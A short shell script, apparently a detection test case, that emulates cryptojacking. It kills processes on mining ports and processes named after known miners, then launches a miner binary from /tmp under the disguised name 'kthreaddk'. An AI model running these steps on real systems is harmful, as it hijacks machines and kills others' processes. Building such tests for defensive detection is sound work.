#!/bin/sh
. /opt/case/case.sh

sh -c 'while :; do :; done' & v=$!
for p in 3333 4444 5555 7777 14444 9999; do netstat -anp 2>/dev/null | grep ":$p" | awk '{ print $7 }' | awk -F/ '{ print $1 }' | grep -v - | xargs -r kill -9 2>/dev/null || true; done
ps -o pid,args | grep -vE 'grep|run.sh' | grep -E 'while|xmrig|minerd|kdevtmpfsi|cryptonight|sustse' | awk '{ print $1 }' | xargs -r kill -9 2>/dev/null || true
! kill -0 $v 2>/dev/null || kill -9 $v
cp /opt/tools/miner /tmp/kthreaddk && chmod 755 /tmp/kthreaddk && (/tmp/kthreaddk & sleep 4; kill $! || true) 2>/dev/null
took_place
